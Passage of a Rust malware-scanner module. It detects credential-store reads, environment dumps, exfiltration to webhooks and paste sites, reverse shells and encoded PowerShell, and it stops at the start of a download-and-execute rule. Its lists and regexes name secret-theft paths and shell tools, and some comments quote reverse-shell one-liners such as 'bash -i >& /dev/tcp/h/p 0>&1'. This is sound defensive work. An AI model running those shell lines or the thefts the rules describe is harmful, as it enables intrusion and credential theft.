//! What a file does, from its anchor hits (capabilities and threat ingredients), and the
//! threat rules that need only these facts.

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::{clip, finding, Place};
use crate::analysis::anchors::{Sig, NSIG};
use crate::analysis::classify::Kind;
use crate::analysis::endpoints::{live_endpoint, local_ipv4};
use crate::analysis::finding::ScamFinding;
use crate::analysis::lines::{around, contains, contains_ci, ident_byte, is_comment, line_of, line_span};
use crate::result::Severity;

/// A quoted cryptocurrency address: Ethereum, Bitcoin (legacy and bech32), Solana-style
/// base58, Monero.
static ADDRESS_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"["'`](?:0x[0-9a-fA-F]{40}|bc1[02-9ac-hj-np-z]{25,59}|[13][1-9A-HJ-NP-Za-km-z]{25,34}|[1-9A-HJ-NP-Za-km-z]{32,44}|4[0-9AB][1-9A-HJ-NP-Za-km-z]{93})["'`]"#)
        .expect("address literal regex")
});

fn at(data: &[u8], pos: usize, lit: &str) -> bool {
    data[pos..].starts_with(lit.as_bytes())
}

fn any_of(hay: &[u8], needles: &[&str]) -> bool {
    needles.iter().any(|n| contains(hay, n))
}

fn prev_byte(data: &[u8], pos: usize) -> u8 {
    if pos == 0 {
        b' '
    } else {
        data[pos - 1]
    }
}

/// The ingredients of a file, each the position of its first (non-comment) evidence.
#[derive(Debug, Default)]
pub(crate) struct Facts {
    /// (position, store, a read operation sits next to it).
    pub creds: Vec<(usize, &'static str, bool)>,
    pub browser: Option<usize>,
    pub browser_decrypt: Option<usize>,
    pub discord_store: Option<usize>,
    pub discord_token: Option<usize>,
    /// `dict(os.environ)`, `JSON.stringify(process.env)`, `$(env)`.
    pub env_whole: Option<usize>,
    /// A `.env` file read as raw text (not through dotenv).
    pub env_file: Option<usize>,
    /// The raw `.env` contents (the variable assigned from the read, or the read itself)
    /// appear in a send or a payload, not only parsed for a token.
    pub env_sent: bool,
    pub user: Option<usize>,
    pub host: Option<usize>,
    pub ip_lookup: Option<usize>,
    /// An exfiltration channel: webhook, bot API, paste site, request catcher, tunnel,
    /// OAST server, raw public IP.
    pub endpoint: Option<(usize, &'static str)>,
    /// Any network use by code (client libraries, sockets, download tools; not URLs in
    /// strings).
    pub send: Option<usize>,
    /// Download tools and APIs (`urlretrieve`, `curl`, `DownloadFile`, ...), not uploads.
    pub download: Vec<usize>,
    /// Downloads plus HTTP GET-style client calls: candidates for download-and-execute.
    pub fetches: Vec<usize>,
    pub spawn: Option<usize>,
    pub mail_or_ftp: Option<usize>,
    pub hits_by: Vec<(Sig, usize)>,
}

impl Facts {
    pub(crate) fn gather(
        _kind: Kind,
        data: &[u8],
        hits: &[(Sig, usize)],
        counts: &[u32; NSIG],
        raw_ip: Option<usize>,
    ) -> Facts {
        let mut f = Facts::default();
        let c = |s: Sig| counts[s as usize];
        let mine = c(Sig::CredStore)
            + c(Sig::BrowserStore)
            + c(Sig::DiscordStore)
            + c(Sig::EnvAccess)
            + c(Sig::HostInfo)
            + c(Sig::IpLookup)
            + c(Sig::ExfilOob)
            + c(Sig::Exfil)
            + c(Sig::NetSend)
            + c(Sig::NetworkUse)
            + c(Sig::Download)
            + c(Sig::ProcessSpawn)
            + c(Sig::RunFile)
            + c(Sig::PsFlag)
            + c(Sig::RevShell)
            + c(Sig::Clipboard)
            + c(Sig::Miner)
            + c(Sig::Persistence)
            + c(Sig::Keylogger)
            + c(Sig::ScreenCapture)
            + c(Sig::DnsLookup)
            + c(Sig::PyArmor)
            + c(Sig::SpacePad)
            + c(Sig::ZeroWidth)
            + c(Sig::PyExec)
            + c(Sig::EvalLike)
            + c(Sig::WalletPath);
        if mine == 0 {
            return f;
        }
        // Whole-file look-ups only for the rare files with a browser or LevelDB hit.
        let discordish = (c(Sig::DiscordStore) > 0) && (contains(data, "discord") || contains(data, "Discord"));
        let browserish = (c(Sig::BrowserStore) > 0)
            && any_of(
                data,
                &[
                    "User Data",
                    "Chrome",
                    "Chromium",
                    "Brave",
                    "Edge",
                    "Opera",
                    "Yandex",
                    "Vivaldi",
                    "Firefox",
                ],
            );
        for &(sig, p) in hits {
            // `execSync(`/`execFile(` are the obfuscation check's sink anchors (anchors never
            // nest, so they are not listed twice): here they run a file like any spawn.
            let sig = if sig == Sig::ExecSink && data[p..].starts_with(b"exec") {
                Sig::RunFile
            } else {
                sig
            };
            if !matches!(
                sig,
                Sig::CredStore
                    | Sig::BrowserStore
                    | Sig::DiscordStore
                    | Sig::EnvAccess
                    | Sig::HostInfo
                    | Sig::IpLookup
                    | Sig::ExfilOob
                    | Sig::Exfil
                    | Sig::NetSend
                    | Sig::NetworkUse
                    | Sig::Download
                    | Sig::ProcessSpawn
                    | Sig::RunFile
                    | Sig::WalletPath
            ) {
                f.hits_by.push((sig, p));
                continue;
            }
            if is_comment(data, p) {
                continue;
            }
            f.hits_by.push((sig, p));
            match sig {
                Sig::CredStore => {
                    if let Some(label) = cred_label(data, p) {
                        let near = around(data, p, 3, 3);
                        let read = any_of(
                            near,
                            &[
                                "open(",
                                "read",
                                "Read",
                                "Get-Content",
                                "cat ",
                                "copy",
                                "Copy",
                                "shutil",
                                "glob",
                                "listdir",
                                "walk",
                                "zip",
                                "tar ",
                            ],
                        );
                        f.creds.push((p, label, read));
                    }
                }
                // Wallet files count as one more store kind; wallet-only theft is
                // `scam.wallet_exfiltration`'s job.
                Sig::WalletPath if !at(data, p, "id.json") => {
                    f.creds.push((p, "wallet files", true));
                }
                Sig::BrowserStore => {
                    if at(data, p, "encrypted_key") || at(data, p, "CryptUnprotectData") {
                        f.browser_decrypt.get_or_insert(p);
                    } else if browserish {
                        f.browser.get_or_insert(p);
                    }
                }
                Sig::DiscordStore => {
                    if at(data, p, "dQw4w9WgXcQ") {
                        f.discord_token.get_or_insert(p);
                    } else if discordish {
                        let near = around(data, p, 6, 6);
                        let atomic = contains_ci(near, "atomic");
                        let leveldb_path =
                            contains(near, "Local Storage") && (contains(near, "leveldb") || contains(near, ".ldb"));
                        if atomic && leveldb_path {
                            f.creds.push((p, "the Atomic wallet store", true));
                        } else if leveldb_path && contains_ci(near, "discord") {
                            f.discord_store.get_or_insert(p);
                        }
                    }
                }
                Sig::EnvAccess => env_access(data, p, &mut f),
                Sig::HostInfo => {
                    let user = at(data, p, "getuser")
                        || at(data, p, "getlogin")
                        || at(data, p, "userInfo(")
                        || at(data, p, "whoami")
                        || at(data, p, "%USERNAME%");
                    if user {
                        f.user.get_or_insert(p);
                    } else {
                        f.host.get_or_insert(p);
                    }
                }
                Sig::IpLookup => {
                    f.ip_lookup.get_or_insert(p);
                }
                Sig::ExfilOob | Sig::Exfil => {
                    if !live_endpoint(data, p) {
                        continue;
                    }
                    if let Some(label) = endpoint_label(data, p, sig) {
                        if f.endpoint.is_none() {
                            f.endpoint = Some((p, label));
                        }
                    }
                }
                Sig::NetSend => {
                    if at(data, p, "fetch(") && ident_byte(prev_byte(data, p)) {
                        // `prefetch(`, `repo.fetch(`: not the Fetch API.
                        if prev_byte(data, p) != b'.' || !data[..p].ends_with(b"window.") {
                            continue;
                        }
                    }
                    if at(data, p, "smtplib") || at(data, p, "storbinary") {
                        f.mail_or_ftp.get_or_insert(p);
                    }
                    if [
                        "https.get",
                        "http.request",
                        "https.request",
                        "fetch(",
                        "axios",
                        "httpx.",
                        "aiohttp",
                    ]
                    .iter()
                    .any(|m| at(data, p, m))
                    {
                        f.fetches.push(p);
                    }
                    f.send.get_or_insert(p);
                }
                // URLs in strings are not network use; client libraries are.
                Sig::NetworkUse if !at(data, p, "http") => {
                    f.send.get_or_insert(p);
                    if !at(data, p, "urllib") && !at(data, p, "TcpStream") {
                        f.fetches.push(p);
                    }
                }
                Sig::Download => {
                    let (s, e) = line_span(data, p);
                    let line = &data[s..e];
                    // `curl -T file`, `curl -d @x`, `curl -F`: uploads, not downloads.
                    let upload = any_of(
                        line,
                        &["-T ", "--upload-file", "-F ", "--data", " -d ", "-X POST", "-X PUT"],
                    );
                    let tool_word = at(data, p, "curl ") || at(data, p, "wget ");
                    if tool_word && ident_byte(prev_byte(data, p)) {
                        continue;
                    }
                    if !upload {
                        f.download.push(p);
                        f.fetches.push(p);
                    }
                    f.send.get_or_insert(p);
                }
                Sig::ProcessSpawn | Sig::RunFile => {
                    f.spawn.get_or_insert(p);
                }
                _ => {}
            }
        }
        if let Some(p) = raw_ip.filter(|&p| !is_comment(data, p)) {
            if f.endpoint.is_none() {
                f.endpoint = Some((p, "a raw IP address"));
            }
        }
        if f.discord_store.is_some() && f.discord_token.is_none() {
            // Token regexes: `[\w-]{24}\.[\w-]{6}\.[\w-]{27}` and `mfa\.[\w-]{84}`.
            if let Some(p) = memchr::memmem::find(data, b"{27}")
                .filter(|_| contains(data, "{24}"))
                .or_else(|| memchr::memmem::find(data, b"mfa\\."))
            {
                f.discord_token = Some(p);
            }
        }
        f
    }

    pub(crate) fn has(&self, s: Sig) -> Option<usize> {
        self.hits_by.iter().find(|(x, _)| *x == s).map(|(_, p)| *p)
    }

    pub(crate) fn all(&self, s: Sig) -> impl Iterator<Item = usize> + '_ {
        self.hits_by.iter().filter(move |(x, _)| *x == s).map(|(_, p)| *p)
    }
}

/// Which credential store a `CredStore` hit names, if it really is a path.
fn cred_label(data: &[u8], p: usize) -> Option<&'static str> {
    let next = |n: usize| data.get(p + n).copied().unwrap_or(b' ');
    let sep = |b: u8| matches!(b, b'/' | b'\\' | b'"' | b'\'' | b'`' | b',' | b')');
    let pb = prev_byte(data, p);
    if ident_byte(pb) && pb != b'.' && !at(data, p, "Exodus") {
        // `foo.ssh`, `my.npmrc`: not the home-directory file.
        if pb.is_ascii_alphanumeric() {
            return None;
        }
    }
    if at(data, p, ".ssh") {
        return sep(next(4)).then_some("~/.ssh");
    }
    if at(data, p, "id_rsa") || at(data, p, "id_ed25519") {
        return (!pb.is_ascii_alphanumeric()).then_some("SSH private keys");
    }
    if at(data, p, ".aws") {
        let tail = &data[p..(p + 40).min(data.len())];
        return (sep(next(4)) && contains(tail, "credentials")).then_some("~/.aws/credentials");
    }
    for (lit, label) in [
        (".npmrc", "~/.npmrc (npm tokens)"),
        (".pypirc", "~/.pypirc (PyPI tokens)"),
        (".git-credentials", "~/.git-credentials"),
        (".netrc", "~/.netrc"),
        (".gnupg", "~/.gnupg"),
    ] {
        if at(data, p, lit) {
            let n = next(lit.len());
            return (sep(n) || n == b'\n' || n == b' ').then_some(label);
        }
    }
    if at(data, p, "Exodus") {
        let near = around(data, p, 1, 1);
        let path_like = matches!(pb, b'/' | b'\\' | b'"' | b'\'')
            && (contains(near, "AppData")
                || contains(near, "APPDATA")
                || contains(near, "Roaming")
                || contains(near, "Application Support")
                || contains(near, ".config"));
        return path_like.then_some("the Exodus wallet folder");
    }
    None
}

/// `process.env`, `os.environ`, a `.env` file, `$(env)`.
fn env_access(data: &[u8], p: usize, f: &mut Facts) {
    // `environ.items()` after `from os import environ`: every variable iterated.
    if at(data, p, "$(env)") || at(data, p, "printenv") || at(data, p, "environ.items()") {
        f.env_whole.get_or_insert(p);
        return;
    }
    let before = &data[p.saturating_sub(24)..p];
    let next_non_space = |from: usize| {
        data[from.min(data.len())..]
            .iter()
            .copied()
            .find(|b| *b != b' ')
            .unwrap_or(b' ')
    };
    let prev_non_space = |upto: usize| data[..upto].iter().rev().copied().find(|b| *b != b' ').unwrap_or(b' ');
    if before.ends_with(b"process") {
        // The whole object passed somewhere: `stringify(process.env)`, `send(process.env)`;
        // not `{ ...process.env, X: 1 }` (a child's environment) or `process.env.X`.
        let start = p - 7;
        let after = p + 4;
        let spread = data[..start].ends_with(b"...");
        // Or the value of a field of a collected object: `{ hn: os.hostname(), env: process.env }`.
        // Not the options of a child process (`spawn(cmd, args, { env: process.env })`).
        let field = prev_non_space(start) == b':'
            && matches!(next_non_space(after), b',' | b'}')
            && !any_of(
                &data[start.saturating_sub(300)..start],
                &[
                    "spawn", "exec", "fork(", "Worker(", "execa", "Command(", "shell(", "run(",
                ],
            );
        let whole = !spread
            && ((next_non_space(after) == b')' && prev_non_space(start) == b'(')
                || field
                || any_of(before, &["stringify(", "entries(", "keys(", "values("]));
        if whole {
            f.env_whole.get_or_insert(start);
        }
        return;
    }
    if before.ends_with(b"os") && at(data, p, ".environ") {
        let start = p - 2;
        let after = p + 8;
        let rest = &data[after..(after + 10).min(data.len())];
        let whole = (next_non_space(after) == b')' && prev_non_space(start) == b'(')
            || rest.starts_with(b".copy()")
            || rest.starts_with(b".items()")
            || data[..start].ends_with(b"**");
        if whole {
            f.env_whole.get_or_insert(start);
        }
        return;
    }
    // A `.env` file named in a string, read as raw text (dotenv loaders are configuration,
    // not collection).
    let pb = prev_byte(data, p);
    let nb = data.get(p + 4).copied().unwrap_or(b' ');
    if matches!(pb, b'/' | b'\\' | b'"' | b'\'' | b'`') && matches!(nb, b'"' | b'\'' | b'`') {
        let near = around(data, p, 1, 2);
        let raw = any_of(near, &["open(", "readFile", "read_text", "Get-Content", "cat "]);
        if raw && !contains_ci(near, "dotenv") {
            f.env_file.get_or_insert(p);
            f.env_sent |= env_contents_sent(data, p);
            f.creds.push((p, ENV_FILE, true));
        }
    }
}

/// The label of a raw `.env` read among the credential stores.
pub(crate) const ENV_FILE: &str = "the project's .env file";

/// `NAME = …` at the start of a line (`const`/`let`/`var`/`$`, a type annotation allowed).
static LINE_ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"^\s*(?:(?:const|let|var|local|my)\s+)?\$?([A-Za-z_][A-Za-z0-9_]*)\s*(?::\s*[A-Za-z_<>\[\]]+\s*)?=[^=>]",
    )
    .expect("line assign regex")
});
/// `with open('.env') as fh:` / `fs.readFile('.env', (err, data) =>`: the handle or the
/// callback's data parameter.
static AS_HANDLE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\bas\s+([A-Za-z_][A-Za-z0-9_]*)\s*:").expect("as regex"));
static CALLBACK_DATA: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\(\s*err[A-Za-z]*\s*,\s*([A-Za-z_$][A-Za-z0-9_$]*)\s*\)").expect("callback regex"));

/// Calls that send and the keys of a message payload (Discord `content`, Telegram `text`,
/// `document`, a request `body`/`data`/`json`/`files`).
const SEND_MARKERS: &[&str] = &[
    "post(",
    "fetch(",
    ".send(",
    "sendMessage",
    "sendDocument",
    ".write(",
    "request(",
    "urlopen(",
    ".put(",
    "'content'",
    "\"content\"",
    "content:",
    "'text'",
    "\"text\"",
    "text:",
    "'body'",
    "\"body\"",
    "body:",
    "data=",
    "json=",
    "files=",
    "'data'",
    "\"data\"",
    "data:",
    "'document'",
    "\"document\"",
    "'caption'",
    "\"caption\"",
    "'message'",
    "\"message\"",
    "message:",
];

/// Methods that pick one value out of the contents (a token, a chat id): what follows is
/// not the raw file.
const EXTRACTS: &[&str] = &[
    ".split",
    ".match",
    ".splitlines",
    ".get(",
    ".find",
    ".search",
    ".partition",
    ".startswith",
    ".startsWith",
    ".includes",
    ".indexOf",
    ".exec(",
    ".lines",
    "[",
];

/// Is the `.env` read at `p` sent as it is? The read sits inside a send (`files={'document':
/// open('.env', 'rb')}`), or the variable it is assigned to (directly, through a `with … as
/// fh` handle's `fh.read()`, or a `readFile` callback's data) appears whole, outside a URL
/// and not parsed, on a later line that sends or builds a payload. A bot that parses its
/// own token out of `.env` and posts to its own chat does neither.
pub(crate) fn env_contents_sent(data: &[u8], p: usize) -> bool {
    let (s, e) = line_span(data, p);
    let line = &data[s..e];
    if any_of(
        line,
        &["post(", "fetch(", ".send(", "sendDocument", "request(", "urlopen("],
    ) {
        return true;
    }
    let mut names: Vec<Vec<u8>> = Vec::new();
    if let Some(c) = LINE_ASSIGN.captures(line) {
        names.push(c[1].to_vec());
    }
    if let Some(c) = CALLBACK_DATA.captures(line) {
        names.push(c[1].to_vec());
    }
    // Later lines, bounded: 200 lines or 16 KB.
    let end = (e + 16 * 1024).min(data.len());
    let later: Vec<&[u8]> = data[e.min(end)..end].split(|&b| b == b'\n').take(200).collect();
    if let Some(c) = AS_HANDLE.captures(line) {
        let mut read = c[1].to_vec();
        read.extend_from_slice(b".read");
        for l in later.iter().take(5) {
            if let Some(a) = LINE_ASSIGN.captures(l) {
                if memchr::memmem::find(l, &read).is_some() {
                    names.push(a[1].to_vec());
                }
            }
        }
    }
    names.retain(|n| !n.is_empty());
    later
        .iter()
        .any(|l| any_of(l, SEND_MARKERS) && names.iter().any(|n| raw_use(l, n)))
}

/// `name` used whole in `line`: a word, not inside a URL, not followed by a parsing method.
fn raw_use(line: &[u8], name: &[u8]) -> bool {
    memchr::memmem::find_iter(line, name).any(|i| {
        let j = i + name.len();
        if (i > 0 && (ident_byte(line[i - 1]) || matches!(line[i - 1], b'.' | b'\'' | b'"')))
            || line.get(j).is_some_and(|&b| ident_byte(b))
        {
            return false;
        }
        // A keyword argument or key of that name (`data=…`, `data: …`), not the variable.
        let next = line[j..].iter().copied().find(|b| *b != b' ');
        if matches!(next, Some(b':')) || (next == Some(b'=') && !line[j..].trim_ascii_start().starts_with(b"==")) {
            return false;
        }
        // Inside a URL (`https://api.telegram.org/bot${token}/…`): the bot's own credential.
        let tok_start = line[..i]
            .iter()
            .rposition(|&b| b.is_ascii_whitespace() || matches!(b, b'\'' | b'"' | b'`' | b'(' | b','))
            .map_or(0, |k| k + 1);
        if contains(&line[tok_start..i], "://") {
            return false;
        }
        let rest = &line[j..];
        !EXTRACTS.iter().any(|x| rest.starts_with(x.as_bytes()))
    })
}

/// A human name for the exfiltration channel at `p`, or `None` if the hit is not a host.
fn endpoint_label(data: &[u8], p: usize, sig: Sig) -> Option<&'static str> {
    let s = &data[p..];
    let pb = prev_byte(data, p);
    if sig == Sig::ExfilOob && (pb.is_ascii_alphanumeric() || pb == b'-') {
        // `toast.me`, `mydpaste`: not the service.
        return None;
    }
    let starts = |xs: &[&str]| xs.iter().any(|x| s.starts_with(x.as_bytes()));
    Some(if starts(&["discord"]) {
        "a Discord webhook"
    } else if starts(&["api.telegram.org"]) {
        "the Telegram bot API"
    } else if starts(&[
        "pastebin",
        "paste.ee",
        "hastebin",
        "transfer.sh",
        "dpaste",
        "rentry.co",
        "ghostbin",
        "termbin",
        "bashupload",
    ]) {
        "a paste or file-drop site"
    } else if starts(&[
        "webhook.site",
        "pipedream",
        "requestbin",
        "hookbin",
        "beeceptor",
        "requestcatcher",
    ]) {
        "a request-capture service"
    } else if starts(&["ngrok", "trycloudflare", "serveo"]) {
        "a tunnel"
    } else {
        "an out-of-band interaction server (interactsh/Burp Collaborator)"
    })
}

static PS_ENCODED: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)-(?:e|ec|enc|encodedcommand)\s+[A-Za-z0-9+/=]{16,}").expect("ps regex"));
static URL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"https?://([^\s'"`)<>/]+)([^\s'"`)<>]*)"#).expect("url regex"));
static MONERO: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b").expect("monero regex"));

/// Hosts whose install scripts and release files are what a developer setup downloads.
const KNOWN_HOSTS: &[&str] = &[
    "sh.rustup.rs",
    "static.rust-lang.org",
    "get.docker.com",
    "deb.nodesource.com",
    "rpm.nodesource.com",
    "nodejs.org",
    "release.solana.com",
    "release.anza.xyz",
    "install.python-poetry.org",
    "bootstrap.pypa.io",
    "bun.sh",
    "deno.land",
    "astral.sh",
    "foundry.paradigm.xyz",
    "get.pnpm.io",
    "community.chocolatey.org",
    "chocolatey.org",
    "get.scoop.sh",
    "dot.net",
    "raw.githubusercontent.com",
    "objects.githubusercontent.com",
    "registry.npmjs.org",
    "files.pythonhosted.org",
    "pypi.org",
    "go.dev",
    "dl.google.com",
    "storage.googleapis.com",
    "get.helm.sh",
    "nixos.org",
    "install.determinate.systems",
    "starship.rs",
    "pyenv.run",
    "get.sdkman.io",
    "sdk.cloud.google.com",
    "awscli.amazonaws.com",
    "aka.ms",
    "cli.github.com",
];

/// How trustworthy the place a download comes from looks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Source {
    /// A raw IP, webhook/paste/tunnel host, Discord CDN attachment, URL shortener,
    /// dynamic DNS, or plain http to a public host.
    Suspicious(&'static str),
    /// GitHub releases, package registries, well-known installers.
    Known,
    /// A literal URL to some other host.
    Other,
    /// No literal URL near the download (a variable).
    Unknown,
}

fn source_of(win: &[u8]) -> (Source, Option<String>) {
    let Some(c) = URL.captures(win) else {
        return (Source::Unknown, None);
    };
    let host = String::from_utf8_lossy(&c[1]).to_ascii_lowercase();
    let rest = String::from_utf8_lossy(&c[2]).to_ascii_lowercase();
    let url = String::from_utf8_lossy(&c[0]).into_owned();
    let host_only = host.split(':').next().unwrap_or(&host).to_string();
    let ip = host_only.parse::<std::net::Ipv4Addr>().ok();
    let src = if let Some(ip) = ip {
        if local_ipv4(ip) {
            Source::Known
        } else {
            Source::Suspicious("a raw IP address")
        }
    } else if host_only == "localhost" {
        Source::Known
    } else if (host.contains("discordapp") || host.contains("discord.com")) && rest.contains("attachments") {
        Source::Suspicious("a Discord attachment")
    } else if [
        "pastebin",
        "paste.ee",
        "hastebin",
        "transfer.sh",
        "dpaste",
        "rentry",
        "ghostbin",
        "termbin",
        "ngrok",
        "trycloudflare",
        "serveo",
        "webhook.site",
        "pipedream",
        "bashupload",
        "anonfiles",
        "gofile.io",
        "file.io",
    ]
    .iter()
    .any(|h| host.contains(h))
    {
        Source::Suspicious("a paste, file-drop or tunnel host")
    } else if ["bit.ly", "tinyurl.com", "is.gd", "cutt.ly", "rebrand.ly", "t.ly"].contains(&host_only.as_str()) {
        Source::Suspicious("a URL shortener")
    } else if ["duckdns.org", "no-ip", "ddns.net", "hopto.org", "zapto.org"]
        .iter()
        .any(|h| host.contains(h))
    {
        Source::Suspicious("a dynamic-DNS host")
    } else if (host_only == "github.com" && rest.contains("/releases/"))
        || KNOWN_HOSTS
            .iter()
            .any(|k| host_only == *k || host_only.ends_with(&format!(".{k}")))
    {
        Source::Known
    } else if url.starts_with("http://") {
        Source::Suspicious("a plain-http URL")
    } else {
        Source::Other
    };
    (src, Some(url))
}

static HOST_FIELD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"\b(?:hostname|host)\s*[:=]\s*["']([a-z0-9][a-z0-9.-]*\.[a-z]{2,})["']"#).expect("host field regex")
});

/// A server named literally in `win` (a URL, or `hostname: 'x.example'` in request options)
/// that is neither local nor a well-known installer/registry host.
pub(crate) fn hard_coded_server(win: &[u8]) -> Option<String> {
    if let (Source::Suspicious(_) | Source::Other, Some(url)) = source_of(win) {
        return Some(url);
    }
    let c = HOST_FIELD.captures(win)?;
    let host = String::from_utf8_lossy(&c[1]).to_ascii_lowercase();
    let known = host == "localhost"
        || KNOWN_HOSTS
            .iter()
            .any(|k| host == *k || host.ends_with(&format!(".{k}")));
    (!known).then_some(host)
}

/// Markers of running what was just fetched (`exec(`/`eval(` are checked separately: as
/// method names, `re.exec(`, they are everywhere).
const RUN_MARKERS: &[&str] = &[
    "startfile",
    "Start-Process",
    "Popen",
    "subprocess",
    "os.system",
    "os.exec",
    "execFile",
    "execSync",
    "spawnSync",
    "child_process",
    "execa(",
    "IEX",
    "Invoke-Expression",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "start /b",
    "cmd /c",
    "cmd.exe",
    "wscript",
    "cscript",
    "mshta",
    "rundll32",
    "&& ./",
    "; ./",
    "exec ./",
    "start /B",
    "regsvr32",
    "Command::new",
];
/// Markers of saving a download to disk (shell redirections only towards a path).
const WRITE_MARKERS: &[&str] = &[
    "'wb'",
    "\"wb\"",
    "writeFileSync",
    "createWriteStream",
    "write_bytes",
    "-OutFile",
    "DownloadFile",
    "urlretrieve",
    " -o ",
    " -O ",
    "--output",
    "> /",
    ">/tmp",
    "> $",
    "> \"",
    "File::create",
    "fs::write",
];

const CLIP_READ: &[&str] = &[
    "paste()",
    "readText(",
    "GetClipboardData",
    "get_clipboard",
    "GetText(",
    "pbpaste",
    "clipboard_get",
    "readSync(",
    "xclip -o",
    "read_clipboard(",
];
const CLIP_WRITE: &[&str] = &[
    "pyperclip.copy(",
    "clipboard.copy(",
    "writeText(",
    "SetClipboardData",
    "set_clipboard",
    "SetText(",
    "pbcopy",
    "clipboard_append",
    "writeSync(",
    "setData(",
    "to_clipboard(",
];

/// A call of `exec(`, `eval(` or `Function(` as a function, not a method (`re.exec(`).
fn dynamic_exec(hay: &[u8]) -> bool {
    // `new Function.constructor('require', code)` is `Function(` by another name.
    ["exec(", "eval(", "Function(", "Function.constructor("]
        .iter()
        .any(|m| {
            memchr::memmem::find_iter(hay, m.as_bytes())
                .any(|i| i == 0 || !ident_byte(hay[i - 1]) || hay[..i].ends_with(b"new "))
        })
}

/// A shell's descriptors duplicated into a `/dev/tcp` socket: `bash -i >& /dev/tcp/h/p 0>&1`,
/// `sh -i &> /dev/udp/h/p`, `bash > /dev/tcp/h/p 0<&1`. A plain redirection into the socket
/// (`(echo -n > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1`, wait-for-it.sh's port probe) sends
/// nothing a listener could drive: its `2>&1` duplicates stderr into /dev/null.
static DEV_TCP_DUP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:>&|&>)\s*/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/\S+\s+0[<>]&1|\b(?:ba)?sh\s+-i\b")
        .expect("dev tcp regex")
});
/// `exec 196<>/dev/tcp/h/p` opens a socket as descriptor N (a bash HTTP client does too).
static DEV_TCP_FD: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(\d+)<>\s*/dev/(?:tcp|udp)/").expect("dev tcp fd regex"));

/// Is this `/dev/tcp` line a reverse shell: descriptors duplicated into the socket, or a
/// socket descriptor fed to a shell (`sh <&196 >&196`, `while read line; do $line 2>&5 >&5`).
fn dev_tcp_shell(line: &[u8]) -> bool {
    if !(contains(line, "/dev/tcp/") || contains(line, "/dev/udp/")) {
        return false;
    }
    if DEV_TCP_DUP.is_match(line) {
        return true;
    }
    DEV_TCP_FD.captures_iter(line).any(|c| {
        let n = String::from_utf8_lossy(&c[1]).into_owned();
        let shell_reads = ["sh <&", "sh 0<&", "sh -i <&"]
            .iter()
            .any(|s| contains(line, &format!("{s}{n}")));
        let runs_lines = contains(line, "do $") && contains(line, &format!(">&{n}"));
        shell_reads || runs_lines
    })
}

pub(crate) fn threats(path: &str, data: &[u8], f: &Facts, place: Place, out: &mut Vec<ScamFinding>) {
    let ln = |p: usize| line_of(data, p);
    let install = place == Place::Install;

    // --- Reverse shells.
    for p in f.all(Sig::RevShell) {
        if is_comment(data, p) {
            continue;
        }
        let line = around(data, p, 0, 0);
        let near = around(data, p, 8, 8);
        let shell = any_of(near, &["/bin/sh", "/bin/bash", "cmd.exe", "powershell", "pty.spawn"]);
        let why = if at(data, p, "/dev/tcp/") || at(data, p, "bash -i") || at(data, p, "/bin/sh -i") {
            dev_tcp_shell(line)
        } else if at(data, p, "dup2") {
            contains(near, "socket") && contains(near, "fileno") && shell
        } else if at(data, p, "pty.spawn") {
            contains(data, "socket") && contains(near, "connect") && contains(near, "dup2")
                || (contains(near, "socket") && contains(near, ".connect("))
        } else if at(data, p, "mkfifo") {
            any_of(line, &["nc ", "ncat ", "netcat", "openssl s_client", "/dev/tcp"])
                && any_of(line, &["/bin/sh", "/bin/bash", "sh -i", "bash -i"])
        } else {
            // ` -e /bin/`: netcat handing a shell over.
            let (s, _) = line_span(data, p);
            let lead = &data[s..p];
            any_of(lead, &["nc", "ncat", "netcat"])
        };
        if why {
            out.push(finding(
                Severity::Critical,
                "Reverse shell",
                path,
                ln(p),
                format!(
                    "{path} line {} connects out and hands a shell to the other end (reverse shell): whoever listens controls the machine.",
                    ln(p)
                ),
            ));
            break;
        }
    }
    // Node: a socket piped into a spawned shell.
    if let Some(p) = f.all(Sig::NetSend).find(|&p| {
        (at(data, p, "net.Socket") || at(data, p, "net.connect"))
            && contains(data, "child_process")
            && any_of(
                data,
                &["'/bin/sh'", "\"/bin/sh\"", "'/bin/bash'", "\"/bin/bash\"", "cmd.exe"],
            )
            && contains(data, ".pipe(")
    }) {
        out.push(finding(
            Severity::Critical,
            "Reverse shell",
            path,
            ln(p),
            format!(
                "{path} line {} opens a socket and pipes it into a spawned shell (reverse shell).",
                ln(p)
            ),
        ));
    }

    // --- Encoded or hidden PowerShell.
    for p in f.all(Sig::PsFlag) {
        if is_comment(data, p) {
            continue;
        }
        let near = around(data, p, 1, 1);
        let ps = contains_ci(near, "powershell") || contains_ci(near, "pwsh");
        let encoded = ps && PS_ENCODED.is_match(&data[p..(p + 200).min(data.len())]);
        let from_b64 = at(data, p, "FromBase64String")
            && any_of(near, &["IEX", "iex", "Invoke-Expression", "[ScriptBlock]::Create"]);
        let hidden_dl = ps
            && (at(data, p, "-w") || at(data, p, "-W"))
            && any_of(
                around(data, p, 2, 2),
                &[
                    "DownloadString",
                    "DownloadFile",
                    "Invoke-WebRequest",
                    "iwr ",
                    "Net.WebClient",
                    "http://",
                    "https://",
                    "-enc",
                    "-Enc",
                    "-EncodedCommand",
                    "IEX",
                ],
            );
        if encoded || from_b64 || hidden_dl {
            let what = if encoded {
                "runs a base64-encoded PowerShell command (-EncodedCommand)"
            } else if from_b64 {
                "decodes base64 and runs it as PowerShell"
            } else {
                "starts a hidden PowerShell window that downloads or runs code"
            };
            out.push(finding(
                Severity::Critical,
                "Hidden or encoded PowerShell",
                path,
                ln(p),
                format!("{path} line {} {what}: the way droppers hide their payload.", ln(p)),
            ));
            break;
        }
    }

    // --- Download and execute.
    for &p in &f.fetches {
        let win = around(data, p, 2, 10);
